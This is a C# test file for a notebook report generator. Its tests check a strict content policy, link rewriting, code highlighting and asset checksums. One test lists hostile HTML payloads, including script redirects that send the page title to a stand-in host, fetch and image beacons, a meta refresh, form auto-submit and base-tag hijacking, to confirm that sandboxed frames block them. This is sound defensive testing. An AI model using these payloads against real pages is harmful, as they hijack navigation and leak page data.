using System.Security.Cryptography;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Eml.Runner.Report;
using Eml.Testing;
using Xunit;

namespace Eml.Runner.Tests;

public sealed class ReportTests
{
    private static readonly PageLinks Links = new(
        new Dictionary<string, string>
        {
            [Path.GetFullPath("../derivations.md")] = "d.html",
            [Path.GetFullPath("data/README.md")] = "data-README.html",
            [Path.GetFullPath("a b.ipynb")] = "a b.html",
        },
        new HashSet<string> { "1.7", "1.8" }, "d.html");

    [Fact]
    public void A_page_loads_nothing_from_elsewhere_and_holds_plotly_only_when_needed()
    {
        using var folder = new TestFolder();
        folder.WriteText("dot.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
        string plot = folder.Write("plot.ipynb", "md:# Plot\n\n$x^2$ ![dot](dot.svg)", "HTML(\"<div id='p'></div><script>Plotly.newPlot('p', [])</script>\")");
        string plain = folder.Write("plain.ipynb", "md:# Plain\n\n`Plotly`");
        Assert.Equal(0, folder.Run(plot, plain).ExitCode);
        string page = folder.Page("plot");
        Assert.Contains("plotly.js (cartesian - minified) v4", page, StringComparison.Ordinal);
        Assert.Contains("src=\"data:image/svg+xml;base64,", page, StringComparison.Ordinal);
        Assert.DoesNotContain("plotly.js (cartesian", folder.Page("plain"), StringComparison.Ordinal);
        foreach (string name in new[] { "plot", "plain", "index" })
        {
            string text = folder.Page(name);
            Assert.Contains("content=\"default-src 'none';", text, StringComparison.Ordinal);
            Assert.DoesNotMatch(new Regex("<(script|link|img|iframe)[^>]+(src|href)=\"?(https?:)?//", RegexOptions.IgnoreCase), text);
            Assert.DoesNotMatch(new Regex(@"url\(['""]?(https?:|fonts/)"), text);
        }
    }

    /// <summary>Each tries to take the reader elsewhere, with what the page holds in the address, or to change the page.</summary>
    [Fact]
    public async Task What_a_notebook_brings_runs_in_its_frame_and_leads_nowhere()
    {
        // What a frame does is told with what its page does, as long as both are in one process.
        await using WatchedPage page = await WatchedPage.StartAsync("--disable-features=IsolateSandboxedIframes");
        string[] hostile =
        [
            "<script>location.href = 'https://example.invalid/?' + document.title</script>",
            "<script>top.location = 'https://example.invalid/top'</script>",
            "<script>parent.document.title = 'changed'</script>",
            "<script>fetch('https://example.invalid/fetch'); new Image().src = 'https://example.invalid/image'; open('https://example.invalid/open')</script>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/meta\">",
            "<img src=\"x\" onerror=\"location.href = 'https://example.invalid/handler'\">",
            "<iframe srcdoc=\"&lt;script>top.location = 'https://example.invalid/frame'&lt;/script>\"></iframe>",
            "<form action=\"https://example.invalid/form\"><button>Send</button></form><script>document.querySelector('form').submit()</script>",
            "<svg><script>location.href = 'https://example.invalid/svg'</script></svg>",
            "<base href=\"https://example.invalid/\">",
        ];
        using var folder = new TestFolder();
        string harmless = "<p id=\"own\">waiting</p><script>document.getElementById('own').innerHTML = 'ran<br>'.repeat(20)</script>";
        string cells = string.Concat(hostile.Append(harmless).Select(html => $"HTML({Microsoft.CodeAnalysis.CSharp.SymbolDisplay.FormatLiteral(html, quote: true)}).Display();\n"));
        string path = folder.Write("a.ipynb", ["md:# Title", .. hostile.Select(html => "md:" + html), cells]);
        Assert.Equal(0, folder.Run(path).ExitCode);

        await page.ShowAsync(1000, 800, dark: false);
        string file = Path.Combine(folder.Report, "a.html");
        await page.OpenAsync(file);

        // The last frame has run and told its height: those before it have had their turn.
        const string grown = "new Promise(done => { const look = () => [...document.querySelectorAll('iframe.frame')].at(-1).offsetHeight > 300 ? done(true) : setTimeout(look, 20); look(); })";
        Assert.True(await page.EvaluateAsync<bool>(grown));
        Assert.Equal(new Uri(file).AbsoluteUri, await page.EvaluateAsync<string>("location.href"));
        Assert.Equal("Title", await page.EvaluateAsync<string>("document.title"));
        // What the page's policy forbids is told as well: a request that is then said to be blocked, a frame that shows an error page instead.
        JsonNode[] told = [.. page.Told().Select(one => one.What)];
        string[] blocked = [.. told.Where(what => what["blockedReason"]?.ToString() == "csp").Select(what => what["requestId"]!.ToString())];
        IEnumerable<string?> asked = told.Where(what => !blocked.Contains(what["requestId"]?.ToString())).Select(what => (what["request"] ?? what["response"] ?? what["frame"])?["url"]?.ToString());
        Assert.Equal([], asked.Where(url => url?.Contains("example.invalid", StringComparison.Ordinal) == true));
    }

    [Theory]
    [InlineData("See eq. (1.7).", "See <a class=\"eq\" href=\"d.html#eq-1.7\">(1.7)</a>", "eq. <a")]
    [InlineData("eqs. (1.7), (1.8) and (9.9)", "href=\"d.html#eq-1.8\">(1.8)</a> and (9.9)", "eqs. ")]
    public void Equation_numbers_that_exist_become_links(string markdown, string expected, string kept)
    {
        string html = new MarkdownText(".", Links).ToHtml(markdown).Replace("See eq. ", "See ", StringComparison.Ordinal);
        Assert.Contains(expected, html, StringComparison.Ordinal);
        Assert.Contains(kept, new MarkdownText(".", Links).ToHtml(markdown), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[d](../derivations.md#part-2)", "<a href=\"d.html#part-2\">d</a>")]
    [InlineData("[r](data/README.md)", "<a href=\"data-README.html\">r</a>")]
    [InlineData("[n](a%20b.ipynb)", "<a href=\"a%20b.html\">n</a>")]
    [InlineData("[w](https://example.org/a.ipynb)", "<a href=\"https://example.org/a.ipynb\">w</a>")]
    [InlineData("[t](#top)", "<a href=\"#top\">t</a>")]
    [InlineData("see [a *file*](data/iris.csv), not here", "<p>see a <em>file</em>, not here</p>")]
    public void A_link_leads_to_a_page_of_the_report_or_is_none(string markdown, string expected) =>
        Assert.Contains(expected, new MarkdownText(".", Links).ToHtml(markdown), StringComparison.Ordinal);

    [Fact]
    public void A_version_number_in_brackets_is_no_equation() =>
        Assert.DoesNotContain("<a", new MarkdownText(".", Links).ToHtml("Version (1.7) is out."), StringComparison.Ordinal);

    [Theory]
    [InlineData("$$\na \\tag{1.7}\n$$")]
    [InlineData("$$ a \\tag{1.7} $$")]
    public void A_numbered_formula_has_the_place_its_links_go_to(string markdown) =>
        Assert.Contains("<span class=\"math display\" id=\"eq-1.7\">a \\tag{1.7}</span>", new MarkdownText(".", Links).ToHtml(markdown), StringComparison.Ordinal);

    [Fact]
    public void Headings_are_listed_once_each_with_ids_of_their_own()
    {
        var text = new MarkdownText(".", Links);
        text.ToHtml("# One\n\n## Two");
        text.ToHtml("## Two");
        Assert.Equal(["one", "two", "two-2"], text.Headings.Select(heading => heading.Id));
    }

    [Theory]
    [InlineData("var x = 1;", "<span class=\"c-keyword\">var</span> x = <span class=\"c-number\">1</span>;")]
    [InlineData("// a < b", "<span class=\"c-comment\">// a &lt; b</span>")]
    [InlineData("List<int> y", "<span class=\"c-type\">List</span>&lt;<span class=\"c-keyword\">int</span>&gt; y")]
    public void Code_is_coloured_by_its_syntax(string code, string html) =>
        Assert.Equal(html, CSharpHighlighter.ToHtml(code));

    [Fact]
    public void Colouring_keeps_every_character()
    {
        const string code = "#r \"x.dll\"\r\nvar s = $\"{1:F2} a\";\n\tfoo( /* c */ );\n\"\"\"raw\"\"\" broken (";
        string text = System.Net.WebUtility.HtmlDecode(Regex.Replace(CSharpHighlighter.ToHtml(code), "<[^>]+>", ""));
        Assert.Equal(code, text);
    }

    [Fact]
    public void The_assets_are_those_of_the_packages_named_in_their_readme()
    {
        string assets = Path.Combine(Path.GetDirectoryName(TestFolder.Library)!, "..", "..", "..", "..", "notebooks", "runner", "assets");
        MatchCollection sums = Regex.Matches(File.ReadAllText(Path.Combine(assets, "README.md")), @"^([0-9a-f]{64})  (\S+)$", RegexOptions.Multiline);
        Assert.True(sums.Count > 20);
        foreach (Match sum in sums.OfType<Match>())
        {
            Assert.Equal(sum.Groups[1].Value, Convert.ToHexStringLower(SHA256.HashData(File.ReadAllBytes(Path.Combine(assets, sum.Groups[2].Value)))));
        }
    }
}
